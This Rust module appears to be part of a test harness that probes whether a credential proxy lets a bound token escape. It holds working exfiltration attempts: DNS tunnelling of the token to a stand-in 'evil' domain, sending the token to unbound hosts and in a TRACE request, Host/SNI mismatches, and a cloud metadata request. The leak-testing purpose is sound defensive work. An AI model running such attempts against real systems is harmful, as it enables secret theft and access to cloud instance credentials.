//! Attempts over the network: wrong hosts, addresses, names, and every kind of echo.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream, ToSocketAddrs, UdpSocket};

use base64::Engine;
use base64::engine::general_purpose::STANDARD;

use crate::probe::{Knowledge, PATIENCE};

pub fn host_api(knowledge: &Knowledge) -> Vec<u8> {
    // With the walls away the api is reachable, and still shows no value: what it answers is part of what is searched.
    let request = format!("GET /v1/secrets HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n\r\n", knowledge.api);
    let mut out = Vec::new();
    match TcpStream::connect_timeout(&knowledge.api, PATIENCE) {
        Ok(mut stream) => {
            let _ = stream.set_read_timeout(Some(PATIENCE));
            let _ = stream.write_all(request.as_bytes()).and_then(|()| stream.read_to_end(&mut out));
        }
        Err(error) => out.extend_from_slice(error.to_string().as_bytes()),
    }
    out
}

pub fn dns(knowledge: &Knowledge) -> Vec<u8> {
    let label: String = knowledge.token().chars().filter(char::is_ascii_alphanumeric).take(40).collect();
    let name = format!("{label}.evil.example.net");
    let mut out = format!("{:?}", (name.as_str(), 443).to_socket_addrs().map(Iterator::collect::<Vec<_>>)).into_bytes();
    let mut query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00".to_vec();
    for part in name.split('.') {
        query.push(u8::try_from(part.len()).unwrap_or(0));
        query.extend_from_slice(part.as_bytes());
    }
    query.extend_from_slice(b"\x00\x00\x01\x00\x01");
    let socket = UdpSocket::bind("0.0.0.0:0").and_then(|socket| {
        socket.set_read_timeout(Some(PATIENCE / 6))?;
        // The resolver is a documentation address (RFC 5737): outside a devbox nobody is there.
        socket.send_to(&query, "192.0.2.53:53")?;
        let mut answer = [0; 512];
        let (length, _) = socket.recv_from(&mut answer)?;
        Ok(answer[..length].to_vec())
    });
    out.extend(socket.unwrap_or_else(|error| error.to_string().into_bytes()));
    out
}

pub fn unbound_bearer(knowledge: &Knowledge) -> Vec<u8> {
    let token = knowledge.token();
    knowledge.ask(&knowledge.unbound, &get(&knowledge.unbound, "/echo", &format!("Authorization: Bearer {token}\r\n")))
}

pub fn unbound_api_key(knowledge: &Knowledge) -> Vec<u8> {
    let token = knowledge.token();
    knowledge.ask(&knowledge.unbound, &get(&knowledge.unbound, "/echo", &format!("X-Api-Key: {token}\r\n")))
}

pub fn unbound_basic(knowledge: &Knowledge) -> Vec<u8> {
    let basic = STANDARD.encode(format!("x-access-token:{}", knowledge.token()));
    knowledge.ask(&knowledge.unbound, &get(&knowledge.unbound, "/echo", &format!("Authorization: Basic {basic}\r\n")))
}

pub fn unbound_elsewhere(knowledge: &Knowledge) -> Vec<u8> {
    let token = knowledge.token();
    let host = &knowledge.unbound;
    let request = format!(
        "POST /echo/{token}?t={token} HTTP/1.1\r\nHost: {host}\r\nX-Amz-Meta-T: {token}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{token}",
        token.len()
    );
    knowledge.ask(host, &request)
}

pub fn host_mismatch(knowledge: &Knowledge) -> Vec<u8> {
    let token = knowledge.token();
    knowledge.ask(&knowledge.bound, &get(&knowledge.unbound, "/echo", &format!("Authorization: Bearer {token}\r\n")))
}

pub fn name_mismatch(knowledge: &Knowledge) -> Vec<u8> {
    let token = knowledge.token();
    let bound = knowledge.direct.get(&knowledge.bound).copied().or_else(|| (knowledge.bound.as_str(), 443).to_socket_addrs().ok()?.next());
    let request = get(&knowledge.bound, "/echo", &format!("Authorization: Bearer {token}\r\n"));
    bound.map_or_else(Vec::new, |address| knowledge.ask_at(address, &knowledge.unbound, &request))
}

pub fn metadata(knowledge: &Knowledge) -> Vec<u8> {
    let token = knowledge.token();
    // Outside a devbox the real metadata service is nobody's to ask.
    if !knowledge.direct.is_empty() {
        return Vec::new();
    }
    let request = get("169.254.169.254", "/latest/meta-data/", &format!("Authorization: Bearer {token}\r\n"));
    knowledge.ask_at(SocketAddr::from(([169, 254, 169, 254], 443)), "169.254.169.254", &request)
}

pub fn loopback(knowledge: &Knowledge) -> Vec<u8> {
    let token = knowledge.token();
    let request = get(&knowledge.bound, "/echo", &format!("Authorization: Bearer {token}\r\n"));
    knowledge.ask_at(SocketAddr::from(([127, 0, 0, 1], 443)), &knowledge.bound, &request)
}

pub fn echo_body(knowledge: &Knowledge) -> Vec<u8> {
    bound(knowledge, "/echo", "")
}

pub fn echo_base64(knowledge: &Knowledge) -> Vec<u8> {
    bound(knowledge, "/echo/base64", "")
}

pub fn echo_hex(knowledge: &Knowledge) -> Vec<u8> {
    bound(knowledge, "/echo/hex", "")
}

pub fn echo_percent(knowledge: &Knowledge) -> Vec<u8> {
    bound(knowledge, "/echo/percent", "")
}

pub fn echo_json(knowledge: &Knowledge) -> Vec<u8> {
    bound(knowledge, "/echo/json", "")
}

pub fn echo_head(knowledge: &Knowledge) -> Vec<u8> {
    bound(knowledge, "/echo/head", "")
}

pub fn echo_location(knowledge: &Knowledge) -> Vec<u8> {
    bound(knowledge, "/echo/location", "")
}

pub fn echo_bytewise(knowledge: &Knowledge) -> Vec<u8> {
    bound(knowledge, "/echo/bytewise", "")
}

pub fn echo_trailer(knowledge: &Knowledge) -> Vec<u8> {
    bound(knowledge, "/echo/trailer", "TE: trailers\r\n")
}

pub fn echo_gzip(knowledge: &Knowledge) -> Vec<u8> {
    bound(knowledge, "/echo/gzip", "Accept-Encoding: gzip\r\n")
}

pub fn echo_big(knowledge: &Knowledge) -> Vec<u8> {
    bound(knowledge, "/echo/big", "")
}

pub fn echo_range(knowledge: &Knowledge) -> Vec<u8> {
    bound(knowledge, "/echo", "Range: bytes=0-90\r\n")
}

pub fn store_and_recall(knowledge: &Knowledge) -> Vec<u8> {
    let mut out = bound(knowledge, "/store", "");
    out.extend(knowledge.ask(&knowledge.bound, &get(&knowledge.bound, "/recall", "")));
    out
}

pub fn trace(knowledge: &Knowledge) -> Vec<u8> {
    let token = knowledge.token();
    let host = &knowledge.bound;
    knowledge.ask(host, &format!("TRACE /echo HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {token}\r\nConnection: close\r\n\r\n"))
}

/// A request to the bound host with the token, as it should be used.
fn bound(knowledge: &Knowledge, path: &str, more: &str) -> Vec<u8> {
    let token = knowledge.token();
    knowledge.ask(&knowledge.bound, &get(&knowledge.bound, path, &format!("Authorization: Bearer {token}\r\n{more}")))
}

fn get(host: &str, path: &str, headers: &str) -> String {
    format!("GET {path} HTTP/1.1\r\nHost: {host}\r\n{headers}Connection: close\r\n\r\n")
}
